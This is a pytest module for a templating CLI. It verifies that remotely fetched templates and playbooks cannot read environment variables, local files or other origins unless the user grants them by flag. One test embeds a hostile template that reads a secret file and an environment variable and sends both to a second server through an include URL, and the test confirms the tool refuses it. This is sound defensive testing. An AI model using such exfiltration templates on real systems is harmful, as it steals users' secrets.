"""What a template fetched over HTTP may reach: its own origin, and only what the user grants.

In: a template origin and a second origin (the place a hostile template would send what
it read), both loopback HTTP servers that log every request; a secret file and an
environment variable on this machine.  Out: exit 2 and one line naming the helper call
and the flag that grants it, nothing sent to any origin with the secret (``--print``
too), and the same templates rendering once the user grants exactly that.
Local templates keep every power; a remote template included by a local one does not
inherit them; playbooks added from a URL are remote; so is ``commit`` of a URL.
"""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest

from tests.commands.conftest import Site, run

SECRET = "s3cr3t-value"


@pytest.fixture
def secret(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    path = tmp_path / "secret.txt"
    path.write_text(SECRET)
    monkeypatch.setenv("IK_SECRET", SECRET)
    return path


def leaked(*sites: Site) -> list[str]:
    return [request for site in sites for request in site.requests if SECRET in request]


def refused(result: Any, *words: str) -> None:
    assert result.exit_code == 2, result.output
    assert len(result.output.splitlines()) == 1 and "Traceback" not in result.output, result.output
    for word in words:
        assert word in result.output, result.output


@pytest.mark.parametrize("show", [False, True])
def test_the_issue_exfiltration_is_refused(
    short_home: Path, site: Site, other_site: Site, secret: Path, show: bool
) -> None:
    """Was: the template read a local file and an environment variable and sent both elsewhere (`--print` too)."""
    site.text(
        "/evil.tpl",
        f"{{% set f = include('file://{secret}') %}}{{% set e = env('IK_SECRET') %}}"
        f"{{{{ include('{other_site.base}/leak?f=' ~ f ~ '&e=' ~ e) }}}}",
    )
    other_site.text("/leak", "")
    result = run("template", f"{site.base}/evil.tpl")
    refused(result, "include(", "--allow-local")
    assert leaked(site, other_site) == [] and other_site.requests == []
    if show:  # the playbook spelling of the same attack
        book = "/book"
        site.text(f"{book}/index.yaml", "up: /evil.tpl\n")
        assert run("playbook", "add", "evil", f"{site.base}{book}").exit_code == 0
        refused(run("playbook", "run", "evil", "up", "--print"), "include(", "--allow-local")
        assert leaked(site, other_site) == [] and other_site.requests == []


@pytest.mark.parametrize(
    ("text", "words"),
    [
        ("{{ env('IK_SECRET') }}", ("env('IK_SECRET')", "--allow-env IK_SECRET", "--var")),
        ("{{ env('IK_SECRET', 'default') }}", ("env('IK_SECRET')", "--allow-env IK_SECRET")),
        ("{{ include('file://SECRET_PATH') }}", ("include('file://", "--allow-local")),
        ("{{ metadata('group/specs') }}", ("metadata('group/specs')", "--allow-metadata")),
        ("{{ include('OTHER/x.tpl') }}", ("include(", "origin")),
        ("{{ include('//127.0.0.2:1/x.tpl') }}", ("include(", "origin")),  # scheme-relative: another host
    ],
)
def test_a_remote_template_reaches_nothing_it_was_not_granted(
    short_home: Path, site: Site, other_site: Site, secret: Path, text: str, words: Any
) -> None:
    site.text("/t.tpl", text.replace("SECRET_PATH", str(secret)).replace("OTHER", other_site.base))
    other_site.text("/x.tpl", "from elsewhere")
    refused(run("template", f"{site.base}/t.tpl"), *words)
    assert other_site.requests == [] and leaked(site) == []


def test_what_the_user_grants_is_reachable_and_nothing_more(
    short_home: Path, site: Site, secret: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("IK_OTHER", "other")
    site.text("/env.tpl", "{{ env('IK_SECRET') }}")
    site.text("/two.tpl", "{{ env('IK_SECRET') }} {{ env('IK_OTHER') }}")
    site.text("/file.tpl", f"{{{{ include('file://{secret}') }}}}")
    site.text("/var.tpl", "{{ var('token') }}")
    assert run("template", f"{site.base}/env.tpl", "--allow-env", "IK_SECRET").output == f"{SECRET}\n"
    refused(run("template", f"{site.base}/two.tpl", "--allow-env", "IK_SECRET"), "--allow-env IK_OTHER")
    assert run("template", f"{site.base}/file.tpl", "--allow-local").output == f"{SECRET}\n"
    assert run("template", f"{site.base}/var.tpl", "--var", "token=given").output == "given\n"


def test_a_remote_template_includes_from_its_own_origin(short_home: Path, site: Site) -> None:
    site.text("/lib/main.tpl", "{{ include('part.tpl') }} {{ include('/abs.tpl') }} {{ include(var('me')) }}")
    site.text("/lib/part.tpl", "relative")
    site.text("/abs.tpl", "absolute")
    site.text("/full.tpl", "full-url")
    result = run("template", f"{site.base}/lib/main.tpl", "--var", f"me={site.base}/full.tpl")
    assert result.exit_code == 0, result.output
    assert result.output == "relative absolute full-url\n"


def test_a_redirect_to_another_origin_is_refused(short_home: Path, site: Site, other_site: Site) -> None:
    other_site.text("/x.tpl", "from elsewhere")
    site.text("/here.tpl", "same origin")
    site.redirect("/away.tpl", f"{other_site.base}/x.tpl")
    site.redirect("/moved.tpl", "/here.tpl")
    assert run("template", f"{site.base}/moved.tpl").output == "same origin\n"
    result = run("template", f"{site.base}/away.tpl")
    refused(result, "redirect", other_site.base)
    site.text("/inc.tpl", "{{ include('away.tpl') }}")
    refused(run("template", f"{site.base}/inc.tpl"), "redirect")
    assert other_site.requests == []


def test_local_templates_keep_their_powers_but_what_they_include_remotely_does_not(
    short_home: Path, tmp_path: Path, site: Site, secret: Path
) -> None:
    site.text("/greeting.tpl", "hello")
    site.text("/snoop.tpl", "{{ env('IK_SECRET') }}")
    local = tmp_path / "main.tpl"
    local.write_text(
        f"{{{{ env('IK_SECRET') }}}} {{{{ include('{secret}') }}}} {{{{ include('{site.base}/greeting.tpl') }}}}"
    )
    assert run("template", str(local)).output == f"{SECRET} {SECRET} hello\n"
    (tmp_path / "snoop.tpl").write_text(f"{{{{ include('{site.base}/snoop.tpl') }}}}")
    refused(run("template", str(tmp_path / "snoop.tpl")), "env('IK_SECRET')", "--allow-env")


def test_a_remote_playbook_is_remote(short_home: Path, site: Site, secret: Path) -> None:
    """A playbook added from a URL: its index names templates at its origin only, its templates are remote."""
    site.text("/book/index.yaml", "up: up.yaml.j2\n")
    site.text("/book/up.yaml.j2", "{{ env('IK_SECRET') }}")
    assert run("playbook", "add", "book", f"{site.base}/book").exit_code == 0
    for extra in ((), ("--print",)):
        refused(run("playbook", "run", "book", "up", *extra), "env('IK_SECRET')", "--allow-env")
    assert run("playbook", "run", "book", "up", "--print", "--allow-env", "IK_SECRET").output == f"{SECRET}\n"

    # An index naming a local file: that file is read only when the user grants it, as an include.
    site.text("/local/index.yaml", f"up: file://{secret}\n")
    assert run("playbook", "add", "local", f"{site.base}/local").exit_code == 0
    refused(run("playbook", "run", "local", "up", "--print"), "file://", "--allow-local")
    assert run("playbook", "run", "local", "up", "--print", "--allow-local").output == f"{SECRET}\n"
    # An index naming another origin: never (nothing could grant it), refused when added.
    site.text("/cross/index.yaml", "up: http://127.0.0.2:1/up.yaml.j2\n")
    refused(run("playbook", "add", "cross", f"{site.base}/cross"), "origin")
    assert "cross" not in run("playbook", "ls", "-q").output


def test_commit_of_a_remote_template_is_remote(short_home: Path, site: Site, secret: Path) -> None:
    site.text("/group.yaml.j2", f"{{{{ include('file://{secret}') }}}}")
    result = run("commit", f"{site.base}/group.yaml.j2")
    refused(result, "include(", "--allow-local")
    assert not (short_home / "groups").exists() or not list((short_home / "groups").iterdir())
